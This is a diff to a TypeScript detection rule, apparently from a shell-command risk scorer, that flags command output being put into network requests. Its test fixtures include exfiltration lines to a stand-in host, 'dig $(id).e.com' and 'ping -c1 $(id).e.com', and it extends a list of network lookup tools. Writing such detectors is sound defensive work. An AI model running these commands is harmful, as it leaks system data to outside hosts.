@@ -77,13 +77,16 @@ export const NETWORK: readonly Rule[] = [
     when: ({ args, program }) =>
       args.find(
         (a) =>
-          a.substitution && !/^\$\((date|uname|hostname|pwd)\b[^|;&]*\)$/.test(a.text) && program !== 'ping',
+          a.substitution &&
+          !/^\$\((date|uname|hostname|pwd)\b[^|;&]*\)$/.test(a.text) &&
+          // A whole word may well be the name of this machine; with letters at its side it is a message.
+          (program !== 'ping' || !/^\$\([^()]*\)$/.test(a.text)),
       ),
     dimension: 'network',
     points: 6,
     message: 'puts the output of another command into a request',
-    matches: ['curl "http://e.com/$(cat a)"', 'dig $(id).e.com'],
-    not_matches: ['curl http://e.com', 'echo $(curl http://e.com)'],
+    matches: ['curl "http://e.com/$(cat a)"', 'dig $(id).e.com', 'ping -c1 $(id).e.com'],
+    not_matches: ['curl http://e.com', 'echo $(curl http://e.com)', 'ping $(hostname)'],
   },
   {
     id: 'ignores-certificates',
@@ -114,7 +117,7 @@ export const NETWORK: readonly Rule[] = [
   {
     id: 'looks-up-or-pings',
     programs:
-      'ping ping6 dig host nslookup whois traceroute traceroute6 tracepath mtr drill dog doggo kdig delv fping arping hping3 tcptraceroute finger ntpdate chronyc ntpq speedtest speedtest-cli iperf iperf3 nmblookup avahi-browse dns-sd rpcinfo showmount snmpwalk snmpget ldapsearch smbstatus rdesktop xfreerdp vncviewer irssi weechat wait4x getent-hosts',
+      'ping ping6 dig host nslookup whois traceroute traceroute6 tracepath mtr drill dog doggo kdig delv fping arping hping3 tcptraceroute finger ntpdate chronyc ntpq speedtest speedtest-cli iperf iperf3 nmblookup avahi-browse ssh-keyscan dns-sd rpcinfo showmount snmpwalk snmpget ldapsearch smbstatus rdesktop xfreerdp vncviewer irssi weechat wait4x getent-hosts',
     when: any(operand(/./), flag('-s', '-c', '-H')),
     dimension: 'network',
     points: 3,
